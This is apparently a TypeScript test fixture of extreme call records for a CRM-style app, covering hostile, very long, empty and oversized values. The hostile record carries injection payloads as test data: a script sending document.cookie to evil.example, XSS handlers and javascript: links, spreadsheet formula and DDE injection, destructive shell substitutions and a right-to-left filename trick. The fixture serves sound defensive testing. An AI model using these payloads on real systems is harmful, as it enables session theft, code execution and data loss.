import { longNotes } from './longNotes';
import type { CallDraft } from './sampleCall';
import { sampleIds } from './sampleIds';
import { sampleOutcomes } from './sampleOutcomes';
import { sampleOwners } from './sampleOwners';

/** Story calls whose values are hostile, very long, empty or very large. */
export const extremeStories: readonly CallDraft[] = [
  {
    id: sampleIds.hostile,
    timestamp: '2026-11-16T22:47:00.000Z',
    owner: sampleOwners.chidi,
    origin: 'api',
    properties: {
      hs_call_title:
        '</title><script>alert("title")</script> | ${title} [link](command:workbench.action.quit)',
      hs_call_body:
        '<p>Web form, unchecked:</p><script>fetch("https://evil.example/?" + document.cookie)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(2)">our offer</a><iframe src="https://evil.example"></iframe><p style="position:fixed;inset:0">Tom &amp; Jerry &lt;b&gt;not bold&lt;/b&gt;</p>',
      hs_call_direction: 'INBOUND',
      hs_call_status: 'COMPLETED',
      hs_call_disposition: sampleOutcomes.busy,
      hs_call_duration: '1000',
      hs_call_from_number: '+12125550190',
      hs_call_to_number: '=HYPERLINK("https://evil.example","+442079460100")',
      hs_call_recording_url: 'javascript:alert(3)',
      campaign_code: '@SUM(1+1)*cmd|calc',
      customer_mood: '`rm -rf`; $(reboot) \u202egnp.exe | a | b |',
    },
  },
  {
    id: sampleIds.long,
    timestamp: '2026-11-13T10:00:00.000Z',
    owner: sampleOwners.ines,
    origin: 'user',
    properties: {
      hs_call_title: 'Quarterly review with Larkspur Linen, all nine points of the agenda',
      hs_call_body: longNotes,
      hs_call_direction: 'OUTBOUND',
      hs_call_status: 'COMPLETED',
      hs_call_disposition: sampleOutcomes.connected,
      hs_call_duration: '4512000',
      hs_call_from_number: '+442079460162',
      hs_call_to_number: '+442079460733',
      hs_activity_type: 'Support',
      qa_score: '74',
    },
  },
  {
    id: sampleIds.empty,
    timestamp: '2026-11-11T11:11:11.000Z',
    owner: sampleOwners.hana,
    origin: 'api',
    properties: { hs_call_title: '', hs_call_body: '', hs_call_duration: '', customer_mood: '' },
  },
  {
    id: sampleIds.hours,
    timestamp: '2026-11-04T08:00:00.000Z',
    owner: sampleOwners.tobias,
    origin: 'dialer',
    properties: {
      hs_call_title: 'Set-up workshop with Tallowmere Farms',
      hs_call_body:
        '<p>All morning on one line. Every barn has its own calendar now.</p><ol><li>Milking<ol><li>early</li><li>late</li></ol></li><li>Cheese</li><li>Market days</li></ol>',
      hs_call_direction: 'OUTBOUND',
      hs_call_status: 'COMPLETED',
      hs_call_disposition: sampleOutcomes.connected,
      hs_call_duration: '11832000',
      hs_call_from_number: '+442079460166',
      hs_call_to_number: '+46846500442',
      hs_call_recording_url: 'https://recordings.harborlight.example/calls/430043.wav',
      hs_activity_type: 'Training',
      qa_score: '100',
    },
  },
  {
    id: sampleIds.beyondSafeInteger,
    timestamp: '2026-11-19T15:55:00.000Z',
    owner: sampleOwners.amara,
    origin: 'dialer',
    properties: {
      hs_call_title: 'Follow-up with Fernhollow Bakery',
      hs_call_body: '<p>Moved the demo by half an hour; Ilya has a delivery at 10.</p>',
      hs_call_direction: 'INBOUND',
      hs_call_status: 'COMPLETED',
      hs_call_disposition: sampleOutcomes.leftLiveMessage,
      hs_call_duration: '47500',
      hs_call_from_number: '+441614960172',
      hs_call_to_number: '+442079460118',
      hs_call_callee_object_id: '2510001',
      hs_call_callee_object_type: 'CONTACT',
      campaign_code: 'AUTUMN-BAKERS',
    },
  },
];
